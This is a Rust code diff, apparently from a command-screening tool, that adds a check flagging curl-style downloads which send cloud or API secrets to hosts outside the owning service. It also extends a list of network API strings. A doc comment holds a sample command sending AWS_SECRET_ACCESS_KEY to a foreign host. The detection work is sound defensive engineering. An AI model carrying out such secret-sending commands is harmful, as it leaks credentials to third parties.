@@ -112,6 +112,58 @@ fn secret_in_url(form: &[Arg]) -> bool {
                 .split('$')
                 .skip(1)
                 .any(|var| is_secret_name(var.trim_start_matches('{')))
+    }) || misdirected_secret(form)
+}
+
+/// True if a downloader sends (in a header, a form field, data) a secret variable whose
+/// service is known to a host that is not that service: `curl -H "X-K:
+/// $AWS_SECRET_ACCESS_KEY" http://elsewhere/`. A cloud's signing secret is never sent as
+/// it is, so it counts wherever it goes.
+fn misdirected_secret(form: &[Arg]) -> bool {
+    const SERVICES: &[(&str, &[&str])] = &[
+        ("AWS_SECRET_ACCESS_KEY", &[]),
+        ("AWS_SESSION_TOKEN", &[]),
+        ("AZURE_CLIENT_SECRET", &[]),
+        (
+            "GITHUB_TOKEN",
+            &["github.com", "githubusercontent.com", "ghcr.io"],
+        ),
+        (
+            "GH_TOKEN",
+            &["github.com", "githubusercontent.com", "ghcr.io"],
+        ),
+        ("GITLAB_TOKEN", &["gitlab.com"]),
+        ("NPM_TOKEN", &["npmjs.org", "npmjs.com"]),
+        ("OPENAI_API_KEY", &["openai.com"]),
+        ("ANTHROPIC_API_KEY", &["anthropic.com"]),
+        ("HF_TOKEN", &["huggingface.co"]),
+        ("SLACK_TOKEN", &["slack.com"]),
+    ];
+    if !commands::is_downloader(&name(form)) {
+        return false;
+    }
+    let hosts: Vec<&str> = form
+        .iter()
+        .filter_map(|arg| arg.text.split_once("://"))
+        .map(|(_, rest)| rest.split(['/', ':', '?']).next().unwrap_or(""))
+        .collect();
+    form.iter().skip(1).any(|arg| {
+        arg.text.split('$').skip(1).any(|var| {
+            let var: String = var
+                .trim_start_matches('{')
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                .collect();
+            SERVICES.iter().any(|(name, own)| {
+                *name == var
+                    && hosts.iter().any(|host| {
+                        !is_loopback(host)
+                            && !own.iter().any(|service| {
+                                *host == *service || host.ends_with(&format!(".{service}"))
+                            })
+                    })
+            })
+        })
     })
 }
 
@@ -125,6 +177,12 @@ const NETWORK_APIS: &[&str] = &[
     "fetch(",
     "https.request",
     "http.request",
+    "require('https')",
+    "require(\"https\")",
+    "require('http')",
+    "require(\"http\")",
+    "require('net')",
+    "net.connect",
     "Net::HTTP",
     "LWP::",
     "IO::Socket",
